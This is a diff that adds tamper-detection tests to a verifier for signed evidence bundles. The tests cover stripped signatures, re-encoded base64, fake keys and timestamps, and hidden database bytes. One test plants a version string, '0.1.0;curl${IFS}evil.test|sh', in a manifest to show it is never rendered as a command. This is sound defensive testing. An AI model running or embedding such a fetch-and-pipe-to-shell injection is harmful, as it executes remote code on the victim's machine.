@@ -4,6 +4,7 @@ import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'nod
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { makeSigningKey } from '../../src/evidence/keys/signing-key.ts';
+import { canonicalJson } from '../../src/store/canonical-json.ts';
 import { checkBundle } from '../../src/verify/check-bundle.ts';
 import { verificationText } from '../../src/verify/verification-text.ts';
 import { verifyBundle } from '../../src/verify/verify-bundle.ts';
@@ -368,4 +369,76 @@ test('a reader who knows the key is not deceived by another one', ({}, info) => 
   expect(saidAgainst(plain, known)).toMatch(
     /^signature evidence\/audit\.json: expected a signature of the key .+, found none$/m,
   );
+});
+
+test('a reader who knows the key asks for its signature of the whole bundle', ({}, info) => {
+  const [key] = verifyBundle(signed, nothingKnown).looked!.signers.audit;
+  const known = { ...nothingKnown, key: key! };
+  expect(saidAgainst(signed, known)).toBe('');
+  // The log was written on after the seal: only the bundle's own signature tells what stood there.
+  const path = tamper(signed, info.outputPath('loose.zip'), 'sums', (contents) => {
+    contents.delete('manifest.dsse.json');
+    const lines = contents.get('evidence/custody.jsonl')!.toString('utf8').trimEnd().split('\n');
+    contents.set('evidence/custody.jsonl', Buffer.from(lines.slice(0, -1).join('\n') + '\n'));
+  });
+  expect(saidAgainst(path, known)).toMatch(
+    /^signature manifest\.dsse\.json: expected a signature of the key .+, found none$/m,
+  );
+});
+
+type Signatures = { signatures: { keyid: string; sig: string }[] };
+
+for (const [what, change] of [
+  ['in other bits of its base64', ({ signatures: [one] }: Signatures) => (one!.sig = looser(one!.sig))],
+  ['twice', ({ signatures }: Signatures) => signatures.push(signatures[0]!)],
+] as const) {
+  test(`a right signature that is written ${what} is found`, ({}, info) => {
+    const path = tamper(signed, info.outputPath('tampered.zip'), 'nothing', (contents) => {
+      const envelope = JSON.parse(contents.get('manifest.dsse.json')!.toString('utf8')) as Signatures;
+      change(envelope);
+      contents.set('manifest.dsse.json', Buffer.from(canonicalJson(envelope)));
+    });
+    expect(saidAgainst(path)).toMatch(/^signature manifest\.dsse\.json: is not how signatures are written/m);
+  });
+}
+
+/** Another text for the same 64 bytes: the last four bits of its last letter are left over. */
+function looser(base64: string): string {
+  const other = { A: 'B', Q: 'R', g: 'h', w: 'x' }[base64.at(-3)!]!;
+  return `${base64.slice(0, -3)}${other}==`;
+}
+
+test('keys and time-stamps that are no such thing are failures like others', ({}, info) => {
+  const path = tamper(signed, info.outputPath('tampered.zip'), 'sums', (contents) => {
+    const name = first(contents, /\.pem$/);
+    contents.set(name, Buffer.concat([Buffer.from('whatever\n'), contents.get(name)!]));
+    contents.set(`evidence/keys/${'0'.repeat(64)}.pem`, Buffer.alloc(70_000, 'A'));
+    contents.set('evidence/audit.tsr', Buffer.alloc(2_000_000, '0'));
+  });
+  const found = saidAgainst(path);
+  expect(found).toMatch(/^signature evidence\/keys\/0{64}\.pem: it is more than/m);
+  expect(found).toMatch(/^signature evidence\/keys\/(?!0{64})\w+\.pem: is not the public key/m);
+  expect(found).toMatch(/^stamp evidence\/audit\.tsr: it is more than/m);
+});
+
+test('bytes hidden in a database are found although it says that another SQLite wrote it', ({}, info) => {
+  const path = tamper(plain, info.outputPath('tampered.zip'), 'sums', (contents) => {
+    inDatabase(contents, "CREATE TABLE t (a); INSERT INTO t VALUES ('hidden'); DROP TABLE t");
+    contents.get('seesaw.db')!.writeUInt32BE(3_040_001, 96);
+  });
+  expect(saidAgainst(path)).toBe(
+    'derivation seesaw.db: its rows are right, and there are bytes in it that belong to no row',
+  );
+});
+
+test('the version that a bundle claims never becomes a command of its own', ({}, info) => {
+  const path = tamper(plain, info.outputPath('tampered.zip'), 'sums', (contents) => {
+    const manifest = contents.get('manifest.json')!.toString('utf8');
+    const tool = '"tool":"0.1.0;curl${IFS}evil.test|sh"';
+    contents.set('manifest.json', Buffer.from(manifest.replace(/"tool":"[^"]*"/, () => tool)));
+    replaced(contents, 'report/walks.csv', ',refused,1,', ',refused,0,');
+  });
+  const text = verificationText(verifyBundle(path, nothingKnown), nothingKnown, 'en');
+  expect(text).toContain('Made by Seesaw 0.1.0;curl');
+  expect(text).not.toMatch(/(?:npm install|git checkout).*curl/);
 });
